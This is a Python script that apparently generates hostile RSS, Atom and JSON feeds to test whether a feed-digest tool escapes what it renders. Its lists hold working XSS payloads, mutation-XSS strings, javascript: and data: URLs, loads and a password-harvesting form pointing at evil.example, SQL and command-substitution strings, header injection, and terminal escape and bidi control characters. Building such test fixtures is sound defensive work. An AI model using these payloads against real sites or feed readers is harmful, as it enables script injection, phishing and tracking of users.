#!/usr/bin/env python3
"""Feeds whose every entry tries to act in what is made of it.

    vectors.py DIRECTORY    writes there RSS, Atom and JSON feeds with an entry per vector, granola.conf
                            with a digest of each feed, and what marks each entry, one a line

Vectors are markup that runs, loads or navigates where it is let through, markup that ends what it
stands in, what Markdown engines turn into links and HTML, and characters that steer terminals or
turn the direction of text. They are combined from lists, so that a new idea in one meets all of
the others.
"""
import html
import json
import os
import sys

MOST = 100          # stories of an edition
CALL = "alert(document.domain)"

HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus autofocus tabindex=1", "ontoggle open",
            "onbegin", "onanimationstart", "onpointerrawupdate", "onscrollend", "onunheardof"]
CARRIERS = ["img src=x", "svg", "body", "details", "input", "video src=x", "math", "marquee", "select", "b",
            "p", "a href=#", "unheard-of", "style", "iframe", "object data=x", "keygen", "audio src=x"]
# Ways to write a tag that some reader takes for one.
SPELLINGS = ["<{}>", "<{}", "<{}//", "<\n{}>", "</{}>", "<{}\f>", "<!--><{}>", "<!--{0}--!><{0}>", "<![CDATA[<{}>]]>",
             "<x title='</x><{}>'>", "&lt;{}&gt;", "&#60;{}&#x3e;", "&amp;lt;{}&amp;gt;", "<\0{}>", "<<{}>>",
             "\uff1c{}\uff1e", "+ADw-{}+AD4-"]
ENDINGS = ["\">", "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</script>", "</a>", "</p></div></body>",
           "</noscript>", "</template>", "</svg>", "*/", "\"}", "\n\n"]
SCRIPTS = ["<script>{}</script>", "<SCRIPT\n>{}</ScRiPt\n>", "<script src=//evil.example/x.js></script>",
           "<scr<script>ipt>{}</script>", "<script/x=1>{}</script>", "<svg><script>{}</script></svg>",
           "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror={}>\">",
           "<svg></p><style><a id=\"</style><img src=x onerror={}>\">",
           "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
           "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
           "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={}>\">",
           "<xmp><p title=\"</xmp><script>{}</script>\">", "<title><a title=\"</title><script>{}</script>\"></a>"]
ELEMENTS = ["<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=//evil.example></iframe>",
            "<embed src=//evil.example/x.swf>", "<object data=javascript:{}></object>", "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta charset=utf-7>",
            "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
            "<p style='background:url(//evil.example/x)'>", "<p style='width:expression({})'>",
            "<form action=//evil.example><input name=password><button formaction=javascript:{}>Go</button></form>",
            "<img src=//evil.example/pixel.gif width=1>", "<img srcset='//evil.example/2 2x'>",
            "<video poster=//evil.example/p><source src=//evil.example/v></video>", "<portal src=//evil.example>",
            "<a href=# ping=//evil.example>", "<table background=//evil.example/t>", "<a id=location name=cookie>",
            "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>", "<svg><a xlink:href=javascript:{}>x</a></svg>",
            "<svg><set attributeName=onload to={}></svg>", "<svg><foreignObject><iframe onload={}></foreignObject></svg>",
            "<math href=javascript:{}>x</math>", "<?xml-stylesheet href='javascript:{}'?>",
            "<bgsound src=//evil.example/s>", "<frameset><frame src=javascript:{}></frameset>", "<plaintext><b>",
            "<isindex action=javascript:{} type=submit>", "<dialog open>", "<template><script>{}</script></template>"]
TARGETS = ["javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}",
           "javascript&colon;{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}", "javascript\u200b:{}", "vbscript:x",
           "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd",
           "blob:https://evil.example/1", "view-source:javascript:{}", "feed:javascript:{}", "intent://x#Intent;end",
           "https://evil.example/\"onclick=\"{}", "https://evil.example/'><script>{}</script>", "//evil.example/x",
           "https://evil.example/a b)[c](javascript:{})", "https://evil.example/>\n[x]: javascript:{}", "jar:x!/",
           "https://evil.example/\u202egpj.exe", "https://javascript:{}@evil.example/", "mailto:x?body={}", "\\\\evil\\x",
           "https://evil.example/\x1b]0;x\x07", "https://evil.example/%0d%0aSet-Cookie:x", "livescript:{}"]
ANCHORS = ["<a href=\"{}\">x</a>", "<a href='{}' target=_blank>x</a>", "[x]({})", "<{}>", "![x]({})", "[x]: {}\n[x]",
           "<area href={}>", "[x](<{}> \"t\")", "[x]\\({})"]
LINES = ["<!DOCTYPE x [<!ENTITY y 'z'>]>", "# Forged", "Forged\n======", "Forged\n---", "> forged", "- forged", "1. forged", "***", "```\nforged\n```",
         "    forged", "| a | b |\n|---|---|", "[^1]: forged", "<!-- forged -->", "---\ntitle: forged\n---", "\\# forged",
         "~~~", "+ [ ] forged", ":::", "$$forged$$", "{{ forged }}", "{% forged %}", "%(forged)s %n %s", "`<b>`",
         "[x][x]", "![][x]", "&#35; forged", "* * *", "=====", "`$(touch forged)`", "'; DROP TABLE entry; --", "../../forged",
         "\r\n\r\nForged: header", "Subject: forged", "*x*{: onclick=forged}", "[x](y){onclick=forged}", "<https://x onclick=y>"]
CONTROLS = ["\x1b[31m", "\x1b]0;forged\x07", "\x1bP$q\x1b\\", "\x9b31m", "\x9d0;x\x9c", "\x08\x08\x08", "\x7f", "\r", "\x0b", "\x0c",
            "\x00", "\x85", "\u2028", "\u2029", "\u202e", "\u202a\u202d", "\u2066\u2068", "\u2069", "\ufeff", "\ufff9x\ufffa",
            "\ufffe", "\uffff", "\ufdd0", "\x1b[2J\x1b[H", "\x1b]8;;http://evil.example\x1b\\", "\x0e", "\x9f", "\U0001ffff"]


def acting():
    """Markup that acts if it is let through raw: what a checker of digests must see."""
    for number, carrier in enumerate(CARRIERS):
        for step in range(3):
            yield f"<{carrier} {HANDLERS[(number + step) % len(HANDLERS)]}={CALL}>"
    for text in SCRIPTS + ELEMENTS:
        yield text.replace("{}", CALL)
    for target in TARGETS[:8]:
        yield f"<a href=\"{target.replace('{}', CALL)}\">x</a>"


def trying():
    """All vectors: those that act, those that act if something is undone, and the rest."""
    yield from acting()
    for number, spelling in enumerate(SPELLINGS):
        for step in range(3):
            carrier = CARRIERS[(number + 6 * step) % len(CARRIERS)]
            yield spelling.format(f"{carrier} {HANDLERS[number % len(HANDLERS)]}={CALL}")
    for number, ending in enumerate(ENDINGS):
        yield ending + f"<img src=x onerror={CALL}>"
        yield ending + SCRIPTS[number % len(SCRIPTS)].replace("{}", CALL)
    for number, target in enumerate(TARGETS):
        for step in range(3):
            anchor = ANCHORS[(number + 3 * step) % len(ANCHORS)]
            yield anchor.format(target.replace("{}", CALL))
    yield from LINES
    yield from CONTROLS


SYLLABLES = "ba ce di fo gu ha ki lo mu ne pa ri so tu va we xi yo za".split()


def word(seed):
    seed = seed * 2654435761 % (1 << 32)
    parts = []
    for _ in range(4):
        parts.append(SYLLABLES[seed % len(SYLLABLES)])
        seed //= len(SYLLABLES)
    return "".join(parts)


def story(number):
    """Sentences that no other entry has, so that each is a story of its own."""
    words = [word(number * 40 + i) for i in range(36)]
    return [" ".join(words[i:i + 12]).capitalize() + "." for i in range(0, 36, 12)]


def xml(text):
    """As an XML file can hold it: what has no place in XML at all is left to the JSON feed."""
    allowed = "".join(c for c in text if c in "\t\n\r" or " " <= c and c not in "\ufffe\uffff")
    return html.escape(allowed)


def entries(kind):
    """RSS holds all vectors; the others every second one, and JSON what XML has no place for."""
    every = list(trying())
    chosen = {"r": every, "a": every[::2], "j": every[1:-len(CONTROLS):2] + CONTROLS}[kind]
    for number, vector in enumerate(chosen):
        seed = "raj".index(kind) * 10000 + number
        mark = f"mark{kind}{number}x"
        before, *after = story(seed)
        yield {"vector": vector, "mark": mark, "url": f"https://news.example/{kind}/{number}",
               "title": f"{vector} {mark} {word(seed)}", "target": TARGETS[number % len(TARGETS)].replace("{}", CALL),
               "html": f"<p>{vector}</p><p>{before}</p><div>{vector}{after[0]}</div><p>{after[1]} {vector}</p>"}


def rss(several):
    hostile = xml(SCRIPTS[0].replace("{}", CALL))
    yield (f'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
           f'xmlns:c="http://purl.org/rss/1.0/modules/content/"><channel><title>{hostile}R</title>'
           f'<link>javascript:{CALL}</link><description>{hostile}</description>\n')
    for number, entry in enumerate(several):
        vector = xml(entry["vector"])
        link = xml(entry["target"] if number % 2 else entry["url"])
        yield (f'<item><title>{xml(entry["title"])}</title><link>{link}</link><guid isPermaLink="false">{vector}{number}</guid>'
               f'<dc:creator>{vector}</dc:creator><category domain="{vector}">{vector}</category>'
               f'<enclosure url="{link}" type="{vector}" length="1"/>'
               f'<description>{vector}</description><c:encoded>{xml(entry["html"])}</c:encoded></item>\n')
    yield "</channel></rss>\n"


def atom(several):
    yield (f'<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{xml(ENDINGS[0])}">'
           f'<id>urn:x</id><title type="html">{xml(xml(ELEMENTS[0]))}A</title><updated>2026-11-22T00:00:00Z</updated>\n')
    for number, entry in enumerate(several):
        vector = xml(entry["vector"])
        kind = ("text", "html")[number % 2]
        yield (f'<entry><id>{vector}{number}</id><title type="{kind}">{xml(entry["title"])}</title>'
               f'<link href="{entry["url"]}" title="{vector}"/><updated>2026-11-22T0{number % 10}:00:00Z</updated>'
               f'<author><name>{vector}</name><uri>{vector}</uri></author><category term="{vector}" label="{vector}"/>'
               f'<summary type="{kind}">{vector}</summary><content type="html">{xml(entry["html"])}</content></entry>\n')
    yield "</feed>\n"


def json_feed(several):
    items = []
    for number, entry in enumerate(several):
        items.append({"id": entry["vector"] + str(number), "title": entry["title"], "content_html": entry["html"],
                      "url": entry["target"] if number % 2 else entry["url"], "external_url": entry["target"],
                      "authors": [{"name": entry["vector"], "url": entry["target"]}], "tags": [entry["vector"]],
                      "language": entry["vector"]})
    yield json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": CONTROLS[1] + ELEMENTS[0] + "J",
                      "items": items})


FORMATS = {"r": ("rss", rss), "a": ("atom", atom), "j": ("json", json_feed)}


def write(directory, name, text):
    with open(os.path.join(directory, name), "wb") as file:
        file.write(text.encode("utf-8", "surrogatepass"))


def main(directory):
    config = ["[granola]", "state = state", "output = digests"]
    marks = []
    for kind, (ending, feed) in FORMATS.items():
        every = list(entries(kind))
        for start in range(0, len(every), MOST):
            part = f"{ending}-{start // MOST + 1}"
            write(directory, f"{part}.{ending}", "".join(feed(every[start:start + MOST])))
            config += [f"[feeds: {part}]", "full-text = no", f"file:{part}.{ending}", f"[digest: {part}]", "at = 07:00",
                       f"feeds = {part}", f"stories = {MOST}", "empty = yes", "formats = text, html, markdown, atom, json"]
        marks += [entry["mark"] for entry in every]
    write(directory, "granola.conf", "".join(line + "\n" for line in config))
    write(directory, "marks", "".join(mark + "\n" for mark in marks))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
